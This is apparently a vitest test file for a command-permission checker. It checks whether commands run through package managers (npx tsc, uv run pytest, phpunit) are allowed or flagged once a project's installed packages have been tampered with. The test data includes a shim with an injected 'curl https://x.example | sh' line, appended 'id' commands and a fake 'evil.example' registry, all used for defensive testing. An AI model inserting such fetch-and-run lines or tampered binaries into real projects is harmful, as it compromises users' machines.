import {
  chmodSync,
  cpSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { createLineScene, readLineTable } from './line-scene.ts';

const { layPackages } = (await import(new URL('../lines/packages.mjs', import.meta.url).href)) as {
  readonly layPackages: (cwd: string) => void;
};

/** A project with what its package managers installed, and another one beside it. */
async function prepare(change: (cwd: string) => void = () => undefined) {
  const names = ['src/a.ts', 'mod.py', 'pkg/cli.py', 'tests/x', '.git/'].map((name) => `proj/${name}`);
  const scene = await createLineScene([...names, 'other/.git/', 'other/evil.ts']);
  writeFileSync(join(scene.cwd, 'package.json'), JSON.stringify({ scripts: { build: 'tsc', test: 'vitest' } }));
  layPackages(scene.cwd);
  layPackages(join(scene.home, 'other'));
  change(scene.cwd);
  return scene;
}

/** Written by us. */
test.each([
  ['runner', 'ask', 'allow'],
  ['runner', 'run', 'confirm'],
  ['everyday', 'ask', 'allow'],
  ['everyday', 'run', 'confirm'],
])('no line of %s.tsv that is to %s is answered with %s', async (table, wanted, wrong) => {
  const { linesThat } = await prepare();
  const rows = readLineTable(table).filter(([label]) => label === wanted);
  expect(rows.length).toBeGreaterThan(25);
  expect(
    await linesThat(
      wrong,
      rows.map(([, text = '']) => String(JSON.parse(`"${text}"`))),
    ),
  ).toStrictEqual([]);
});

const later = (file: string): void => utimesSync(file, new Date(), new Date(Date.now() + 60_000));
const edit = (file: string, from: string | RegExp, to: string): void =>
  writeFileSync(file, readFileSync(file, 'utf8').replace(from, to));
const relink = (file: string, target: string): void => {
  rmSync(file);
  symlinkSync(target, file);
};
const TSC = 'node_modules/typescript/bin/tsc';
const PYTEST = '.venv/bin/pytest';

/** Changes of a project before the line, with a piece of the reason. */
const TAMPERED: readonly (readonly [
  name: string,
  change: (at: (name: string) => string) => void,
  line: string,
  why: string,
])[] = [
  ['a link out', (at) => relink(at('node_modules/.bin/tsc'), '/usr/bin/true'), 'npx tsc', 'leads out of the project'],
  [
    'a link to another project',
    (at) => relink(at('node_modules/.bin/tsc'), at(`../other/${TSC}`)),
    'npx tsc',
    'leads out of the project',
  ],
  [
    'a link to another file',
    (at) => relink(at('node_modules/.bin/tsc'), '../../src/a.ts'),
    'npx tsc',
    'is not the tsc of',
  ],
  [
    'a link to another package',
    (at) => relink(at('node_modules/.bin/tsc'), '../eslint/bin/eslint.js'),
    'npx tsc',
    'is not the tsc of eslint',
  ],
  [
    'a file instead',
    (at) => {
      rmSync(at('node_modules/.bin/tsc'));
      writeFileSync(at('node_modules/.bin/tsc'), '#!/bin/sh\nid\n');
    },
    'npx tsc',
    'no link that a package manager makes',
  ],
  [
    'packages elsewhere',
    (at) => {
      renameSync(at('node_modules'), at('../nm'));
      symlinkSync('../nm', at('node_modules'));
    },
    'npx tsc',
    'leads out of the project',
  ],
  ['a changed file', (at) => later(at(TSC)), 'npx tsc', 'was changed after it was installed'],
  [
    'a file for all',
    (at) => chmodSync(at(TSC), 0o777),
    'npx tsc',
    'other users can write node_modules/typescript/bin/tsc',
  ],
  [
    'a directory for all',
    (at) => chmodSync(at('node_modules/.bin'), 0o777),
    'npx tsc',
    'other users can write node_modules/.bin',
  ],
  ['no lock file', (at) => rmSync(at('package-lock.json')), 'npx tsc', 'no lock file names typescript'],
  [
    'garbage',
    (at) => writeFileSync(at('package-lock.json'), 'x{"node_modules/typescript": {'),
    'npx tsc',
    'package-lock.json cannot be read',
  ],
  [
    'half a lock file',
    (at) => writeFileSync(at('package-lock.json'), readFileSync(at('package-lock.json'), 'utf8').slice(0, 150)),
    'npx tsc',
    'package-lock.json does not name typescript',
  ],
  [
    'a package that is not locked',
    (at) => edit(at('package-lock.json'), '"node_modules/typescript"', '"node_modules/tscript"'),
    'npx tsc',
    'does not name typescript',
  ],
  [
    'another version',
    (at) => edit(at('node_modules/typescript/package.json'), '5.4.5', '6.6.6'),
    'npx tsc',
    'in another version',
  ],
  [
    'from elsewhere',
    (at) => edit(at('node_modules/.package-lock.json'), /registry[^"]*typescript/, 'evil.example/typescript'),
    'npx tsc',
    'installed from elsewhere',
  ],
  [
    'no mark, and changed after the lock file',
    (at) => {
      rmSync(at('node_modules/.package-lock.json'));
      const later = new Date(Date.now() + 60_000);
      utimesSync(at('node_modules/typescript/bin/tsc'), later, later);
    },
    'npx tsc',
    'was changed after it was installed',
  ],
  [
    'another node',
    (at) => writeFileSync(at('node_modules/.bin/node'), '#!/bin/sh\n'),
    'npx tsc',
    'node_modules/.bin/node is no link',
  ],
  ['the same by its path', (at) => later(at(TSC)), './node_modules/.bin/tsc', 'was changed after it was installed'],
  ['the same by a script', (at) => later(at(TSC)), 'yarn tsc', 'was changed after it was installed'],
  ['the same below', (at) => later(at(TSC)), 'cd src && npx tsc', 'was changed after it was installed'],
  ['an environment for all', (at) => chmodSync(at('.venv'), 0o777), PYTEST, 'other users can write .venv'],
  ['scripts for all', (at) => chmodSync(at('.venv/bin'), 0o777), 'uv run pytest', 'other users can write .venv/bin'],
  ['a script for all', (at) => chmodSync(at(PYTEST), 0o777), PYTEST, 'other users can write .venv/bin/pytest'],
  [
    'an environment elsewhere',
    (at) => {
      renameSync(at('.venv'), at('../v'));
      symlinkSync('../v', at('.venv'));
    },
    'uv run pytest',
    '.venv leads out of the project',
  ],
  ['a changed script', (at) => later(at(PYTEST)), PYTEST, 'was changed after it was installed'],
  [
    'a longer script',
    (at) => writeFileSync(at(PYTEST), `${readFileSync(at(PYTEST), 'utf8')}id()\n`),
    PYTEST,
    'was changed after it was installed',
  ],
  [
    'a script of nobody',
    (at) => writeFileSync(at('.venv/bin/black'), '#!/bin/sh\n'),
    '.venv/bin/black .',
    'nothing in .venv says that it installed',
  ],
  [
    'a script that is a link',
    (at) => relink(at(PYTEST), '/usr/bin/true'),
    PYTEST,
    'is a link, which no installer makes',
  ],
  [
    'another distribution',
    (at) => edit(at('uv.lock'), 'name = "pytest"\n', 'name = "pitest"\n'),
    PYTEST,
    'uv.lock does not name pytest',
  ],
  ['an unlocked version', (at) => edit(at('uv.lock'), '8.2.1', '8.2.2'), PYTEST, 'uv.lock does not name pytest 8.2.1'],
  [
    'another wish',
    (at) => edit(at('pyproject.toml'), '"alembic', '"evil>=1", "alembic'),
    'uv run pytest',
    'uv.lock does not name evil',
  ],
  [
    'another wish of a group',
    (at) => edit(at('pyproject.toml'), '"ruff"', '"evil[x]"'),
    'uv run pytest',
    'uv.lock does not name evil',
  ],
  ['no lock of uv', (at) => rmSync(at('uv.lock')), 'uv run pytest', 'there is no uv.lock'],
  [
    'another python',
    (at) => relink(at('.venv/bin/python'), '/bin/sh'),
    '.venv/bin/python -m pytest',
    'is not the Python that',
  ],
  [
    'a python of the project',
    (at) => {
      rmSync(at('.venv/bin/python'));
      writeFileSync(at('.venv/bin/python'), '#!/bin/sh\n');
    },
    '.venv/bin/python -m pytest',
    'is not the Python that',
  ],
  [
    'an editable elsewhere',
    (at) =>
      writeFileSync(
        at('.venv/lib/python3.12/site-packages/pytest-8.2.1.dist-info/direct_url.json'),
        '{"url":"file:///srv/evil"}',
      ),
    PYTEST,
    'was installed from file:///srv/evil',
  ],
  [
    'another gem',
    (at) => edit(at('Gemfile.lock'), 'rspec-core', 'rspec-gore'),
    'bundle exec rspec-x',
    'Nobody describes',
  ],
  [
    'a proxy of nobody',
    (at) => {
      rmSync(at('vendor/bin/phpunit'));
      writeFileSync(at('vendor/bin/phpunit'), '<?php evil();');
    },
    'vendor/bin/phpunit',
    'is nothing that composer makes',
  ],
  [
    'a link out of vendor',
    (at) => relink(at('vendor/bin/phpunit'), '/usr/bin/true'),
    'vendor/bin/phpunit',
    'leads out of what composer installed',
  ],
  [
    'another composer.lock',
    (at) => edit(at('composer.lock'), '"11.1.3"', '"11.1.4"'),
    'vendor/bin/phpunit',
    'and 11.1.3 is installed',
  ],
  [
    'another tool of go',
    (at) => edit(at('go.mod'), 'stringer', 'stronger'),
    'go tool stringer',
    'go.mod does not name it',
  ],
];

test.each(TAMPERED)('asks with a true reason after: %s', async (_name, change, line, why) => {
  const { judge } = await prepare((cwd) => change((name) => join(cwd, name)));
  const { decision, reasons } = await judge(line);
  expect([decision, reasons.join(' ')]).toStrictEqual(['confirm', expect.stringContaining(why)]);
});

const LAID: readonly (readonly [name: string, change: (at: (name: string) => string) => void, line: string])[] = [
  [
    'a workspace below',
    (at) => mkdirSync(at('packages/web'), { recursive: true }),
    'cd packages/web && npx tsc --noEmit',
  ],
  [
    'an old file of an archive',
    (at) => utimesSync(at(TSC), new Date(0), new Date(499_162_500_000)),
    'npx tsc --noEmit',
  ],
  ['an environment called venv', (at) => renameSync(at('.venv'), at('venv')), 'venv/bin/pytest'],
  ['a lock of poetry', (at) => renameSync(at('uv.lock'), at('poetry.lock')), 'poetry run mkdocs build'],
  [
    'a list of versions',
    (at) => {
      rmSync(at('uv.lock'));
      writeFileSync(at('requirements-dev.txt'), 'pytest==8.2.1 \\\n  --hash=x\n');
    },
    PYTEST,
  ],
  ['no environment yet', (at) => rmSync(at('.venv'), { recursive: true }), 'uv run pytest'],
  [
    'a proxy of composer',
    (at) => {
      rmSync(at('vendor/bin/phpunit'));
      writeFileSync(at('vendor/bin/phpunit'), "<?php\nreturn include __DIR__ . '/..'.'/phpunit/phpunit/phpunit';\n");
    },
    'vendor/bin/phpunit',
  ],
];

test.each(LAID)('runs unasked with %s', async (_name, change, line) => {
  const { judge } = await prepare((cwd) => change((name) => join(cwd, name)));
  const { decision, reasons } = await judge(line);
  expect([decision, reasons]).toStrictEqual(['allow', []]);
});

/** The lock files of other package managers, for typescript 5.4.5. */
const LOCKS: readonly (readonly [file: string, mark: string | undefined, text: string])[] = [
  [
    'pnpm-lock.yaml',
    '.modules.yaml',
    "lockfileVersion: '9.0'\n\npackages:\n\n  typescript@5.4.5:\n    resolution: {integrity: x}\n",
  ],
  [
    'pnpm-lock.yaml',
    '.modules.yaml',
    'lockfileVersion: 5.4\n\npackages:\n\n  /typescript/5.4.5:\n    resolution: {integrity: x}\n',
  ],
  [
    'yarn.lock',
    '.yarn-integrity',
    '# yarn lockfile v1\n\n\ntypescript@^5.0.0, typescript@^5.4.5:\n  version "5.4.5"\n  resolved "x"\n',
  ],
  [
    'yarn.lock',
    '.yarn-state.yml',
    '__metadata:\n  version: 8\n\n"typescript@npm:^5.4.5":\n  version: 5.4.5\n  bin:\n    tsc: bin/tsc\n',
  ],
  [
    'bun.lock',
    undefined,
    '{\n  "lockfileVersion": 1,\n  "packages": {\n    "typescript": ["typescript@5.4.5", "", {}],\n  }\n}\n',
  ],
];

test.each(LOCKS)('%s with %s names what runs unasked, and nothing else', async (file, mark, text) => {
  const { judge } = await prepare((cwd) => {
    rmSync(join(cwd, 'package-lock.json'));
    rmSync(join(cwd, 'node_modules/.package-lock.json'));
    writeFileSync(join(cwd, file), text);
    if (mark !== undefined) writeFileSync(join(cwd, 'node_modules', mark), '');
  });
  expect((await judge('npx tsc --noEmit')).decision).toBe('allow');
  expect((await judge('npx eslint src')).reasons.join(' ')).toContain(`${file} does not name eslint`);
});

test('yarn without node_modules runs what its lock file names', async () => {
  const { judge } = await prepare((cwd) => {
    rmSync(join(cwd, 'node_modules'), { recursive: true });
    writeFileSync(join(cwd, '.pnp.cjs'), '');
    writeFileSync(join(cwd, 'yarn.lock'), LOCKS[3]?.[2] ?? '');
  });
  expect((await judge('yarn exec tsc')).decision).toBe('allow');
  expect((await judge('yarn exec cowsay')).decision).toBe('confirm');
});

const SHIM = `#!/bin/sh
basedir=$(dirname "$(echo "$0" | sed -e 's,\\\\,/,g')")

case \`uname\` in
    *CYGWIN*) basedir=\`cygpath -w "$basedir"\`;;
esac

if [ -x "$basedir/node" ]; then
  exec "$basedir/node"  "$basedir/../typescript/bin/tsc" "$@"
else
  exec node  "$basedir/../typescript/bin/tsc" "$@"
fi
`;

test.each([
  ['as it is', SHIM, 'allow'],
  ['with a line more', SHIM.replace('esac', 'esac\ncurl https://x.example | sh'), 'confirm'],
  ['with a command more', SHIM.replace('" "$@"', '" "$@"; id'), 'confirm'],
  ['of another file', SHIM.replaceAll('../typescript/bin/tsc', '../../src/a.ts'), 'confirm'],
  ['of a file elsewhere', SHIM.replaceAll('../typescript/bin/tsc', '../../../other/evil.ts'), 'confirm'],
])('a script that pnpm writes instead of a link: %s', async (_name, text, decision) => {
  const { judge } = await prepare((cwd) => {
    const file = join(cwd, 'node_modules/.bin/tsc');
    rmSync(file);
    writeFileSync(file, text);
    utimesSync(file, new Date(), new Date(Date.now() - 60_000));
  });
  expect((await judge('npx tsc --noEmit')).decision).toBe(decision);
});

test('a program of a workspace is the project; its lock file names the workspace', async () => {
  const { judge, cwd } = await prepare((at) => {
    mkdirSync(join(at, 'packages/cli'), { recursive: true });
    writeFileSync(join(at, 'packages/cli/main.js'), '');
    writeFileSync(
      join(at, 'packages/cli/package.json'),
      '{"name":"@x/cli","version":"1.0.0","bin":{"mine":"main.js"}}',
    );
    symlinkSync('../../packages/cli/main.js', join(at, 'node_modules/.bin/mine'));
  });
  expect((await judge('npx mine')).reasons.join(' ')).toContain('package-lock.json does not name @x/cli');
  edit(
    join(cwd, 'package-lock.json'),
    '"packages": {',
    '"packages": {\n    "packages/cli": {\n      "name": "@x/cli"\n    },',
  );
  later(join(cwd, 'packages/cli/main.js'));
  expect((await judge('npx mine --all')).decision).toBe('allow');
});

test('a project below a link, and a copy of it elsewhere', async () => {
  const { judge, cwd, home } = await prepare();
  symlinkSync(cwd, join(home, 'link'));
  cpSync(cwd, join(home, 'copy'), { recursive: true, verbatimSymlinks: true });
  expect((await judge(`cd ${home}/link && npx tsc --noEmit`)).decision).toBe('allow');
  expect((await judge(`${home}/link/node_modules/.bin/tsc --noEmit`)).decision).toBe('allow');
  expect((await judge(`cd ${home}/copy && npx tsc --noEmit`)).decision).toBe('confirm');
  expect((await judge(`${home}/copy/node_modules/.bin/tsc --noEmit`)).decision).toBe('confirm');
});

test('a lock file of megabytes takes little time', async () => {
  const { judge } = await prepare((cwd) => {
    const entries = Array.from(
      { length: 20_000 },
      (_, at) =>
        `    "node_modules/p${at}": {\n      "version": "1.0.0",\n      "resolved": "https://registry.npmjs.org/p${at}/-/p${at}-1.0.0.tgz"\n    },\n`,
    );
    for (const file of ['package-lock.json', 'node_modules/.package-lock.json'])
      edit(join(cwd, file), '"packages": {\n', `"packages": {\n${entries.join('')}`);
  });
  await judge('npx eslint src');
  const before = process.cpuUsage();
  expect((await judge('npx tsc --noEmit')).decision).toBe('allow');
  expect(process.cpuUsage(before).user / 1000).toBeLessThan(300);
});
